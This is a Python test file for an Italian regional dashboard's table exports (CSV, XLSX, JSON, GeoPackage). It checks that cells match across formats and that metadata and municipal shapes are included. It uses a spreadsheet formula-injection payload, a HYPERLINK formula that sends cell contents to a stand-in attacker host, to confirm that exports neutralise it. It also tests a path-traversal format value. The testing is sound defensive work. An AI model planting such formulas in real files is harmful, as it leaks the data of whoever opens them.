"""Tables of the dashboard as files: the same cells in all forms, nothing run, what was asked and what it means."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from collections.abc import Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pyogrio
import pytest
from pyogrio.raw import read
from shapely import from_wkb

from app.core.errors import InputRefused
from app.regional.definitions import DEFINITIONS
from app.regional.files.answers import KINDS, book_file
from app.regional.tables import Column, Kind, Table, as_file, asking, taken_away
from desk_fixtures import Desk

NOW = datetime(2026, 11, 29, 23, 30, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"qui")'
_NS = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@dataclass(frozen=True)
class Line:
    """A row with a cell of each kind."""

    code: str
    name: str
    people: int | None
    share: float
    day: date
    at: datetime
    ok: bool
    took: float


LINES = [
    Line("048017", FORMULA, 360_930, 0.5, date(2026, 7, 1), datetime(2026, 7, 1, 22, 30, tzinfo=UTC), True, 2.5),
    Line("100005", "Prato", None, 1.0, date(2026, 7, 2), datetime(2026, 12, 1, 8, 0, tzinfo=UTC), False, 60.0),
    Line("999999", "Altrove", 3, 0.25, date(2026, 7, 3), datetime(2026, 12, 1, 9, 0, tzinfo=UTC), False, 1.0),
]
COLUMNS: tuple[Column[Line], ...] = (
    Column("comune", "Municipality", lambda row: row.name),
    Column("abitanti", "Residents", lambda row: row.people, Kind.NUMBER),
    Column("quota", "Share", lambda row: row.share, Kind.SHARE, figure="standing"),
    Column("giorno", "Day", lambda row: row.day, Kind.DAY),
    Column("istante", "Instant", lambda row: row.at, Kind.INSTANT),
    Column("si", "Yes", lambda row: row.ok, Kind.YES),
    Column("durata", "Lasted", lambda row: row.took, Kind.SECONDS),
)


def table(*, placed: bool = True) -> Table[Line]:
    return Table("prova", "Rows of a test", COLUMNS, LINES, place=(lambda row: row.code) if placed else None)


@pytest.fixture(scope="module")
def files(shared_desk: Desk) -> Iterator[dict[str, bytes]]:
    """The same table in all forms, ordered by instant, the last first."""
    made = {}
    for kind in KINDS:
        answer, headers = take(shared_desk, {"ordina": "-istante", "formato": kind})
        assert headers["Content-Disposition"] == f"attachment; filename=prova-toscana-2026-11-30.{kind}"
        made[kind] = answer
    yield made


def take(desk: Desk, given: Mapping[str, str], **wanted: Any) -> tuple[bytes, Any]:
    desk.clock = lambda: NOW
    with desk.app.test_request_context("/regione", query_string=given):
        answer = taken_away(table(**wanted), given)
        assert answer is not None
        answer.direct_passthrough = False
        body = answer.get_data()
        answer.close()
        return body, answer.headers


def test_all_forms_have_the_same_cells(files: dict[str, bytes], tmp_path: Path) -> None:
    expected = [["Altrove", 3.0, 0.25, "2026-07-03", "2026-12-01T09:00", False, 1.0],
                ["Prato", None, 1.0, "2026-07-02", "2026-12-01T08:00", False, 60.0],
                [FORMULA, 360930.0, 0.5, "2026-07-01", "2026-07-01T22:30", True, 2.5]]  # fmt: skip
    rows = json.loads(files["json"])["rows"]
    assert [list(row) for row in rows] == [[one.key for one in COLUMNS]] * 3
    assert [[*row.values()] for row in rows] == [[*row[:4], f"{row[4]}:00+00:00", *row[5:]] for row in expected]
    assert packaged(files["gpkg"], tmp_path)[1] == expected
    lines = list(csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
    assert lines[0] == [one.key for one in COLUMNS]
    assert lines[1:] == [
        ["Altrove", "3", "0.25", "03/07/2026", "01/12/2026 10:00", "no", "1.0"],
        ["Prato", "", "1.0", "02/07/2026", "01/12/2026 09:00", "no", "60.0"],
        [f"'{FORMULA}", "360930", "0.5", "01/07/2026", "02/07/2026 00:30", "sì", "2.5"],
    ]
    assert sheet(files["xlsx"], 1)[0] == lines[0]
    assert [[row[0], row[1], row[2], row[5]] for row in sheet(files["xlsx"], 1)[1:]] == [
        ["Altrove", "3", "0.25", "no"], ["Prato", "", "1", "no"], [FORMULA, "360930", "0.5", "sì"],
    ]  # fmt: skip


def test_what_somebody_typed_is_run_by_nobody(files: dict[str, bytes], tmp_path: Path) -> None:
    assert f";{FORMULA}" not in files["csv"].decode() and f"\n{FORMULA}" not in files["csv"].decode()
    with zipfile.ZipFile(io.BytesIO(files["xlsx"])) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/sheet" in name]
        assert not [name for name in book.namelist() if "rels/sheet" in name], "no links"
    assert len(sheets) == 2
    assert not [one for one in sheets if "<f>" in one]
    assert isinstance(json.loads(files["json"])["rows"][2]["comune"], str)
    assert packaged(files["gpkg"], tmp_path)[0]["dtypes"][0] == "object"


def test_what_was_asked_and_what_it_means_goes_with_the_rows(files: dict[str, bytes], tmp_path: Path) -> None:
    said = json.loads(files["json"])
    assert said["asked"] == {"ordina": "-istante"}
    assert said["made_at"] == "2026-11-29T23:30:00+00:00"
    assert said["region"] == {"code": "09", "name": "Toscana"}
    assert [one["id"] for one in said["definitions"]] == ["standing"]
    assert "ISTAT" in said["licence"]
    meaning = said["definitions"][0]["text"]
    about = dict(row[:2] for row in sheet(files["xlsx"], 2)[1:])
    assert about["Regione"] == "Toscana" and about["Fatto il"] == "30/11/2026 00:30"
    assert meaning in about.values()
    info, _rows = packaged(files["gpkg"], tmp_path)
    assert meaning in info["layer_metadata"].values()
    with closing(sqlite3.connect(tmp_path / "prova.gpkg")) as connection:
        titles = connection.execute("SELECT column_name, title, description FROM gpkg_data_columns").fetchall()
    assert ("quota", "Share", meaning) in titles
    assert DEFINITIONS["standing"].text not in meaning, "in Italian"


def test_shapes_are_those_of_the_municipalities(files: dict[str, bytes], tmp_path: Path, shared_desk: Desk) -> None:
    path = tmp_path / "prova.gpkg"
    path.write_bytes(files["gpkg"])
    info = pyogrio.read_info(path)
    assert (info["crs"], info["geometry_type"], info["layer_name"]) == ("EPSG:4326", "MultiPolygon", "prova")
    shapes = read(path)[2]
    assert shapes[0] is None, "a place that is not loaded has no shape"
    prato, firenze = (from_wkb(shape) for shape in shapes[1:])
    assert firenze.is_valid and 11.1 < firenze.centroid.x < 11.4 and 43.7 < firenze.centroid.y < 43.9
    assert prato.centroid.x < firenze.centroid.x


@pytest.mark.parametrize("kind", ["gpkg", "ods", "../x"])
def test_a_form_that_there_is_not_is_refused(shared_desk: Desk, kind: str) -> None:
    with pytest.raises(InputRefused) as refused:
        take(shared_desk, {"formato": kind}, placed=False)
    assert refused.value.code == "export_kind_unknown"


def test_several_tables_are_one_file(shared_desk: Desk) -> None:
    with shared_desk.app.test_request_context("/regione"), shared_desk.product.database.transaction() as session:
        whole, facts = as_file(table(), {}), [("Prima", "Le parole")]
        book = book_file("tutto", [whole, whole], asking(session, {}), "json", facts).get_data()
        with pytest.raises(InputRefused):
            book_file("tutto", [whole], asking(session, {}), "csv")
    assert json.loads(book)["facts"] == [{"name": "Prima", "text": "Le parole"}]
    assert len(json.loads(book)["tables"]["prova"]["rows"]) == 3


def packaged(body: bytes, folder: Path) -> tuple[Any, list[list[Any]]]:
    """What a GeoPackage says of itself, and its rows without shapes."""
    path = folder / "prova.gpkg"
    path.write_bytes(body)
    columns = read(path)[3]
    rows = [[_plain(value) for value in row] for row in zip(*columns, strict=True)]
    return pyogrio.read_info(path), rows


def _plain(value: Any) -> Any:
    if value is None or value != value:
        return None
    if getattr(value, "dtype", None) is not None and value.dtype.kind == "M":
        return str(value)[:16] if "h" in str(value.dtype) or "ms" in str(value.dtype) else str(value)
    return value.item() if hasattr(value, "item") else value


def sheet(body: bytes, number: int) -> list[list[str]]:
    """The cells of a sheet, as text; empty where nothing is."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        strings = ["".join(one.itertext()) for one in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
    rows = [{one.attrib["r"][:1]: _cell(one, strings) for one in row.findall("s:c", _NS)}
            for row in root.iterfind(".//s:row", _NS)]  # fmt: skip
    return [[row.get(letter, "") for letter in sorted(rows[0])] for row in rows]


def _cell(cell: ElementTree.Element, strings: list[str]) -> str:
    value = cell.findtext("s:v", "", _NS)
    return strings[int(value)] if cell.get("t") == "s" else value
